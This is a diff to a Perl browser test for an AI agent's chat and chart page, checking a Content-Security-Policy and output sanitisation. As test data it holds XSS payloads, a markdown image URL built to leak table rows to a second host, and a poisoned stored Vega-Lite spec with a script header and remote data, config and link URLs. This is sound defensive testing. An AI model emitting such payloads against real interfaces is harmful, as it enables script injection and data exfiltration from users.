@@ -15,6 +15,8 @@ use FindBin;
 use lib "$FindBin::Bin/lib";
 use AgentTest;
 use JSON::PP;
+use IO::Socket::INET;
+use POSIX ();
 
 my $root = AgentTest->root;
 my $chromium = $ENV{CHROMIUM} // '/usr/bin/chromium';
@@ -38,6 +40,27 @@ plan skip_all => 'playwright-core could not be installed from npm'
 
 my $t = AgentTest->new;
 
+# elsewhere: another origin on loopback that counts what reaches it; the
+# page must never fetch from it (markdown images, chart data, actions)
+my $else = AgentTest::free_port();
+my $hits = $t->dir . '/elsewhere.log';
+my $else_pid = fork() // die;
+if ($else_pid == 0) {
+    my $l = IO::Socket::INET->new(LocalAddr => '127.0.0.1',
+                                  LocalPort => $else, Listen => 16,
+                                  ReuseAddr => 1) or POSIX::_exit(1);
+    while (my $c = $l->accept) {
+        my $line = <$c> // '';
+        open my $fh, '>>', $hits;
+        print $fh $line;
+        close $fh;
+        print $c "HTTP/1.0 200 OK\r\nContent-Type: image/png\r\n\r\n";
+        close $c;
+    }
+    POSIX::_exit(0);
+}
+END { kill 'KILL', $else_pid if $else_pid }
+
 my $spec = { '$schema' => 'https://vega.github.io/schema/vega-lite/v5.json',
              mark => 'bar',
              data => { values => [ { city => 'Oslo', people => 700000 },
@@ -46,10 +69,28 @@ my $spec = { '$schema' => 'https://vega.github.io/schema/vega-lite/v5.json',
              encoding => { x => { field => 'city', type => 'nominal' },
                            y => { field => 'people',
                                   type => 'quantitative' } } };
+my $dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ'
+        . 'DwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
 my $answer = "**Oslo** is the largest city, then Bergen and Trondheim.\n\n"
     . "- Oslo: 700000\n- Bergen: 285000\n\n"
     . 'Shown as text: <img src=x onerror="window.__pwned=1">'
-    . '<script>window.__pwned=2</script> end.';
+    . '<script>window.__pwned=2</script> end.'
+    . "\n\n![leak](http://127.0.0.1:$else/leak.png?rows=Oslo,700000) "
+    . "![dot](data:image/png;base64,$dot) "
+    . "[the source](http://127.0.0.1:$else/link)";
+
+# history written before the module cleaned specs: the page must not
+# trust it either (usermeta.embedOptions, a data url to elsewhere)
+my $poison = { '$schema' => 'https://vega.github.io/schema/vega-lite/v5.json',
+               usermeta => { embedOptions => {
+                   actions => JSON::PP::true,
+                   sourceHeader => '<script>window.__pwned=3</script>',
+                   config => "http://127.0.0.1:$else/config.json" } },
+               config => "http://127.0.0.1:$else/config2.json",
+               data => { url => "http://127.0.0.1:$else/data.json" },
+               mark => { type => 'bar', href => "http://127.0.0.1:$else/h" },
+               encoding => { x => { field => 'city', type => 'nominal' },
+                             href => { value => "http://127.0.0.1:$else/h2" } } };
 
 $t->mock(sub {
     my ($req) = @_;
@@ -58,6 +99,11 @@ $t->mock(sub {
         if $m[0]{content} =~ /^You write a Vega-Lite/;
     my ($u) = grep { $m[$_]{role} eq 'user' } reverse 0 .. $#m;
     my @results = grep { $_->{role} eq 'tool' } @m[$u + 1 .. $#m];
+    if ($m[$u]{content} eq 'poison') {
+        return { text => 'charted' } if @results;
+        return { tools => [ [ 'call_p', 'ask_analyst',
+                              encode_json({ query => 'a chart' }) ] ] };
+    }
     return { tools => [ [ 'call_sql', 'execute_sql_query', encode_json({
                query => 'SELECT city, people FROM csv_data '
                         . 'ORDER BY people DESC' }) ] ] } if !@results;
@@ -84,8 +130,21 @@ agent_graph page {
 agent_use_graph page;
 HTTP
 $conf =~ s{(location /api/sessions/)}
-          {location / { root $root/conf/html; include $root/conf/html/types.conf; }\n        $1};
+          {location / { root $root/conf/html; include $root/conf/html/types.conf; include $root/conf/html/csp.conf; }\n        $1};
 $t->run($conf);
+
+my $page = $t->http('GET', '/');
+like($page->{headers}{'content-security-policy'} // '',
+     qr/^default-src 'self'; img-src 'self' data:; connect-src 'self'; object-src 'none'; frame-ancestors 'none'$/,
+     'the page is served with the Content-Security-Policy of csp.conf');
+
+# the poisoned session: a real turn, then its stored chart replaced
+my $psid = $t->session(title => 'poisoned');
+is($t->turn($psid, 'poison')->{types}[-1], 'end', 'a chart in a session');
+my $pjson = encode_json({ type => 'vega_lite_spec', spec => $poison });
+$pjson =~ s/'/''/g;
+$t->sqlite($t->dir . '/agent.db', "UPDATE messages SET content = '$pjson' "
+           . "WHERE session_id = '$psid' AND role = 'tool'");
 
 my $csv = $t->dir . '/cities.csv';
 open my $fh, '>', $csv or die $!;
@@ -96,7 +155,7 @@ mkdir "$root/build";
 my $shot = "$root/build/screenshot.png";
 unlink $shot;
 my $url = 'http://127.0.0.1:' . $t->port . '/';
-my $out = `NODE_PATH=$modules CHROMIUM=$chromium timeout 120 node $root/t/browser/page.js $url $csv $shot 2>&1`;
+my $out = `NODE_PATH=$modules CHROMIUM=$chromium timeout 120 node $root/t/browser/page.js $url $csv $shot $psid 2>&1`;
 my ($line) = grep { /^\{/ } split /\n/, $out;
 my $r = eval { decode_json($line // '') };
 ok($r, 'the browser script reported') or diag($out);
@@ -121,12 +180,30 @@ for my $when (qw(live reopened)) {
     is($f->{strong}, 'Oslo', "$when: markdown rendered");
     like($f->{answer} // '', qr/Shown as text: <img src=x onerror="window.__pwned=1"><script>window.__pwned=2<\/script> end\./,
          "$when: the HTML the model wrote shown as text");
-    is($f->{images}, 0, "$when: no image element from it");
+    is($f->{images}, 0, "$when: no image element from the HTML");
+    is($f->{remote}, 0, "$when: no image with a source elsewhere");
+    is($f->{blocked}, 1, "$when: the markdown image from elsewhere shown "
+       . 'without its source');
+    is($f->{dataImages}, 1, "$when: a data: image kept");
+    is($f->{linkRel}, 'noopener noreferrer', "$when: links without opener "
+       . 'or referrer');
     ok($f->{styled}, "$when: the page's stylesheet applied");
     is($f->{pwned}, undef, "$when: the injected onerror and script did not run");
     is($f->{onerror}, 0, "$when: no onerror attribute in the page");
     is($f->{scripts}, 0, "$when: no script element from the model");
 }
+
+my $p = $r->{poisoned} // {};
+ok($p->{drawn}, 'poisoned history: the chart is drawn (or refused) '
+   . 'without an error of the page');
+is($p->{actions}, 0, 'poisoned history: no actions menu, whatever '
+   . 'usermeta.embedOptions says');
+is($p->{pwned}, undef, 'poisoned history: no sourceHeader script ran');
+is($p->{links}, 0, 'poisoned history: no href in the chart');
+
+sleep 0.5;
+is(AgentTest::slurp_file($hits), '', 'nothing fetched from elsewhere: no '
+   . 'markdown image, chart data, config or link');
 
 ok(-s $shot, "a screenshot in $shot");
 
